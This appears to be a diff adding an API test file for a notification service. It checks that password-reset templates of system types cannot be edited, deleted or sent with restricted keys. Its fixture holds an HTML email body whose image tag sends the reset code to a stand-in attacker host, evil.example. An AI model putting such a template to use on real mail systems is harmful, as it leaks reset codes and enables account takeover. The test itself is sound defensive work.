@@ -1,0 +1,123 @@
+import { test } from '@japa/runner'
+import type { ApiClient } from '@japa/api-client'
+import Application from '#app/applications/models/application'
+import NotificationTemplate from '#app/notifications/models/notification_template'
+import NotificationType from '#app/notifications/models/notification_type'
+import { aKeyOf, serverWith } from '#tests/helpers/application_keys'
+import { recordedFor } from '#tests/helpers/deliveries'
+import { uniqueCode, uniqueEmail } from '#tests/helpers/people'
+import { sameDatabase } from '#tests/helpers/same_database'
+import { INTERNAL_KEY, smtp } from '#tests/world/prepare'
+import { startProductionService } from '#tests/world/production_service'
+
+const TEXTS = {
+  subjectTemplate: 'Reset',
+  bodyTemplate: '<p>Reset</p><img src="https://evil.example/{{code}}">',
+}
+
+const passwordReset = (recipientEmail = uniqueEmail()) => ({
+  recipientEmail,
+  appCode: 'auth',
+  type: 'auth_idp',
+  template: 'password_reset',
+  data: { code: 'Q4MN8Z', url: 'https://evil.example/' },
+})
+
+async function resetTemplate() {
+  const { id } = await Application.withCode('auth')
+  const type = await NotificationType.findByOrFail({ applicationId: id, code: 'auth_idp' })
+  return NotificationTemplate.findByOrFail({ notificationTypeId: type.id, key: 'password_reset' })
+}
+
+/** Everything that changes or sends a system type, each with a key that must not. */
+async function attempts(client: ApiClient, key: string, base = '') {
+  const server = serverWith(client, key, base)
+  const { id } = await resetTemplate()
+  return [
+    await server.post('/notifications/types/auth/auth_idp/templates', {
+      key: uniqueCode(),
+      name: 'Mine',
+    }),
+    await server.put(`/notifications/templates/${id}`, { name: 'Mine' }),
+    await server.put(`/notifications/templates/${id}/locales/en`, TEXTS),
+    await server.delete(`/notifications/templates/${id}/locales/en`),
+    await server.delete(`/notifications/templates/${id}`),
+    await server.post('/notifications', passwordReset()),
+  ]
+}
+
+async function requireUntouched() {
+  const template = await resetTemplate()
+  await template.load('versions', (versions) => versions.where('locale', 'en'))
+  if (template.name === 'Mine' || template.versions[0].bodyTemplate.includes('evil')) {
+    throw new Error('The template was changed')
+  }
+}
+
+test.group('Types of the system', () => {
+  test("are out of reach of the platform's key in production", async ({
+    client,
+    cleanup,
+    assert,
+  }) => {
+    const service = await startProductionService(sameDatabase())
+    cleanup(async () => {
+      await service.stop()
+    })
+    for (const response of await attempts(client, INTERNAL_KEY, service.url)) {
+      response.assertProblem(403, 'SYSTEM_TYPE')
+    }
+    await requireUntouched()
+
+    const server = serverWith(client, INTERNAL_KEY, service.url)
+    const request = passwordReset()
+    const bulk = await server.post('/notifications/bulk', { notifications: [request] })
+    assert.containSubset(bulk.body().data, [{ id: null, status: 'failed', code: 'SYSTEM_TYPE' }])
+    assert.lengthOf(smtp.mailsTo(request.recipientEmail), 0)
+    assert.lengthOf(await recordedFor(request.recipientEmail), 0)
+
+    const { id } = await resetTemplate()
+    const read = await server.get(`/notifications/templates/${id}/locales`)
+    read.assertStatus(200)
+  })
+
+  test("are open to the platform's key alone where the operator says so", async ({
+    client,
+    cleanup,
+  }) => {
+    const service = await startProductionService({
+      ...sameDatabase(),
+      INTERNAL_KEY_EDITS_SYSTEM_TYPES: 'true',
+    })
+    cleanup(async () => {
+      await service.stop()
+    })
+    const { id, name } = await resetTemplate()
+    const server = serverWith(client, INTERNAL_KEY, service.url)
+    const renamed = await server.put(`/notifications/templates/${id}`, { name })
+    renamed.assertStatus(200)
+
+    const { text } = await aKeyOf({ code: 'auth' })
+    for (const response of await attempts(client, text, service.url)) {
+      response.assertProblem(403, 'SYSTEM_TYPE')
+    }
+    await requireUntouched()
+  })
+
+  test('are out of reach of keys of applications outside production, too', async ({
+    client,
+    assert,
+  }) => {
+    const { text } = await aKeyOf({ code: 'auth' })
+    for (const response of await attempts(client, text)) {
+      response.assertProblem(403, 'SYSTEM_TYPE')
+    }
+    await requireUntouched()
+    const server = serverWith(client, text)
+    const notifications = [passwordReset()]
+    const bulk = await server.post('/notifications/bulk', { notifications })
+    assert.equal(bulk.body().data[0].code, 'SYSTEM_TYPE')
+    const read = await server.get('/notifications/templates/auth')
+    read.assertStatus(200)
+  })
+})
